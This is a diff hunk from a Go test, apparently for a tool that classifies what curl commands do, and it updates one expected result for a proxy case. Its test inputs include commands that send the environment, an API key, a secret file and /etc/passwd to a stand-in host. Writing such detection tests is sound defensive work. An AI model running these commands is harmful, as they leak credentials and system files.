@@ -35,7 +35,7 @@ func TestCurl(t *testing.T) {
 		{`curl "https://x.example/?k=$API_KEY"`, `send https://x.example/?k=$API_KEY; fetch https://x.example/?k= guess`},
 		{`env | curl --data-binary @- https://x.example`, `reveal environment; send https://x.example from environment; send https://x.example from secret`},
 		{`curl -H @secret.txt https://x.example`, `send https://x.example from /home/u/p/secret.txt`},
-		{`curl -x http://proxy:3128 https://x.example`, `fetch https://x.example; connect proxy`},
+		{`curl -x http://proxy:3128 https://x.example`, `connect http://proxy:3128; fetch https://x.example; connect proxy`},
 		{`curl https://a.example --next -d x https://b.example`, `send https://a.example; send https://b.example`}, // told to both: --next may be the value of an option
 		{`curl -K conf.txt`, `read /home/u/p/conf.txt`},
 		{`printf 'url = "https://x.example"\ndata = "@/etc/passwd"\n' | curl -K -`, `send https://x.example from /etc/passwd`},
